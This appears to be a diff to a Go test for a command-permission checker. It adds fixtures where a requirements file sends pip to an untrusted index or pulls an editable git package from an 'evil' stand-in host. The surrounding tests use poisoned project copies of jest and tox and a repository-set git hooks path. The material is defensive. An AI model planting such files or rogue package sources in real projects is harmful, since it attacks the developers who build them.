@@ -12,7 +12,8 @@ import (
 // TestProjectRunnerCopies: a project's own copy of a runner (./gradlew,
 // ./mvnw, node_modules/.bin/jest, a virtualenv's tox) is a script that
 // runs before the runner reads its build files, a package's scripts and
-// npx find a bare name in node_modules/.bin first, and the hooks git runs
+// npx find a bare name in node_modules/.bin first, a requirements file's
+// index options are pip's, and the hooks git runs
 // are where the repository's .git/config points core.hooksPath (red team
 // rt63: a poisoned repository whose make setup set it). Ordinary copies
 // (Gradle's own wrapper script, pip's console script) stay allowed.
@@ -29,6 +30,9 @@ func TestProjectRunnerCopies(t *testing.T) {
 		"bad/build.gradle":            "plugins { id 'java' }\n",
 		"bad/package.json":            `{"scripts":{"test":"jest"}}`,
 		"bad/node_modules/.bin/jest":  send,
+		"bad/requirements.txt":        "--index-url http://x.example/simple\nrequests\n",
+		"bad/req-git.txt":             "-e git+https://x.example/evil/helper.git#egg=helper\n",
+		"good/requirements.txt":       "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\n-e git+https://github.com/psf/requests.git#egg=requests\nflask==3.0 # web\n",
 		"bad/.venv/bin/tox":           send,
 		"good/.git/HEAD":              "ref: refs/heads/main\n",
 		"good/.git/config":            "[core]\n\thooksPath = \".githooks\"\n",
@@ -60,6 +64,10 @@ func TestProjectRunnerCopies(t *testing.T) {
 		{"bad", "npx jest", dsl.Block},
 		{"bad", ".venv/bin/tox -e py3", dsl.Block},
 		{"bad", "git commit -m wip", dsl.Block},
+		// where a requirements file says packages come from
+		{"bad", "pip install -r requirements.txt", dsl.Ask},
+		{"bad", "python3 -m pip install -r req-git.txt", dsl.Ask},
+		{"good", "pip install -r requirements.txt", dsl.Allow},
 		{"good", "./gradlew build", dsl.Allow},
 		{"good", "sh gradlew test", dsl.Allow},
 		{"good", ".venv/bin/pytest -q", dsl.Allow},
